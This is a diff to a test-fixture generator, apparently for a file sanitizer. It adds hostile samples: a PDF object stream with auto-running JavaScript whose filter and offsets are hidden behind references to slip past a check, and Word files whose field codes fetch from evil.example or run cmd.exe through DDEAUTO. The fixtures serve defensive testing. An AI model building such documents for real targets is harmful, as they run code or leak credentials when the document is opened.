@@ -137,6 +137,37 @@ def pdf_object_stream(filters: bytes, encode, eol: bytes = b"\n", parameters: by
     return bytes(out)
 
 
+def pdf_untyped_object_stream(filter_by_reference: bool) -> bytes:
+    """The object stream of F7 without /Type, its /First given by reference (object 8) and its
+    filter either by reference (object 7) or with a PNG predictor: found by the verification
+    attack, which a reader reads and the check once did not look into."""
+    catalog = b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> /OpenAction 4 0 R >> "
+    header = b"1 0 4 %d " % len(catalog)
+    data = header + catalog + JS_ACTION
+    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
+    for number, body in ((2, PAGES[0]), (3, PAGES[1])):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    if filter_by_reference:
+        payload, dictionary = zlib.compress(data), b"/N 2 /First 8 0 R /Filter 7 0 R"
+    else:
+        payload = zlib.compress(png_up(data, 4))
+        dictionary = b"/N 2 /First 8 0 R /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>"
+    offsets[5] = len(out)
+    out += b"5 0 obj\n" + stream(dictionary, payload) + b"\nendobj\n"
+    offsets[7] = len(out)
+    out += b"7 0 obj\n/FlateDecode\nendobj\n"
+    offsets[8] = len(out)
+    out += b"8 0 obj\n%d\nendobj\n" % len(header)
+    offsets[6] = len(out)
+    rows = b"".join(struct.pack(">BIH", *row) for row in (
+        (0, 0, 65535), (2, 5, 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 1), (1, offsets[5], 0),
+        (1, offsets[6], 0), (1, offsets[7], 0), (1, offsets[8], 0)))
+    out += (b"6 0 obj\n" + stream(b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R", rows)
+            + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
+    return bytes(out)
+
+
 def ascii85(data: bytes) -> bytes:
     return base64.a85encode(data, adobe=True)[2:]
 
@@ -184,6 +215,8 @@ HOSTILE_PDFS = {
         b"/FlateDecode", lambda d: zlib.compress(png_up(d, 16)), parameters=b"/DecodeParms << /Predictor 12 /Columns 16 >>"),
     "objstm_endstream_in_data.pdf": lambda: pdf_object_stream(b"/FlateDecode", flate_hiding_behind_endstream,
                                                               prefix=DECOY),
+    "objstm_untyped_filter_by_reference.pdf": lambda: pdf_untyped_object_stream(filter_by_reference=True),
+    "objstm_untyped_predictor.pdf": lambda: pdf_untyped_object_stream(filter_by_reference=False),
     # F7: what cannot be decoded is not looked into, so it is refused.
     "objstm_lzw.pdf": lambda: pdf_object_stream(b"/LZWDecode", lambda d: b"\x80" + d),
     "objstm_jpx.pdf": lambda: pdf_object_stream(b"/JPXDecode", lambda d: d),
@@ -299,7 +332,20 @@ HOSTILE_WORD_FILES = {
         {"word/activeX/activeX1.xml": b"<ax/>"},
         document_relations=f'<Relationship Id="rId5" Type="{OFFICE_RELATIONSHIPS}/control" Target="activeX/activeX1.xml"/>'),
     "doctype.docx": lambda: _docx_with_doctype(),
+    # The verification attack: field codes that fetch content or run a program when the
+    # document is opened or its fields updated (one split over two runs, as Word writes them).
+    "includepicture.docx": lambda: docx_file(body=_field(' INCLUDEPICTURE "http://evil.example/x.png" \\d ')),
+    "includetext_unc.docx": lambda: docx_file(body=_field(' INCLUDE', 'TEXT "\\\\evil.example\\share\\x.docx" ')),
+    "ddeauto.docx": lambda: docx_file(body=_field(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')),
+    "ddeauto_simple.docx": lambda: docx_file(body='<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot; "/></w:p>'),
 }
+
+
+def _field(*instruction_runs: str) -> str:
+    """A complex field (begin, instruction runs, end) in a paragraph."""
+    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instruction_runs)
+    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
 
 
 def _docx_with_doctype() -> bytes:
@@ -324,4 +370,5 @@ def ordinary_docx() -> bytes:
         document_relations=(f'<Relationship Id="rId4" Type="{OFFICE_RELATIONSHIPS}/hyperlink" '
                             'Target="https://www.kreis.example/kim" TargetMode="External"/>'),
         body=('<w:p><w:r><w:t xml:space="preserve">Siehe </w:t></w:r><w:hyperlink r:id="rId4"><w:r><w:t>'
-              "Kreis</w:t></w:r></w:hyperlink></w:p>"))
+              "Kreis</w:t></w:r></w:hyperlink></w:p>" + _field(" HYPER", 'LINK "https://www.kreis.example/" ')
+              + _field(" PAGE ") + '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>'))
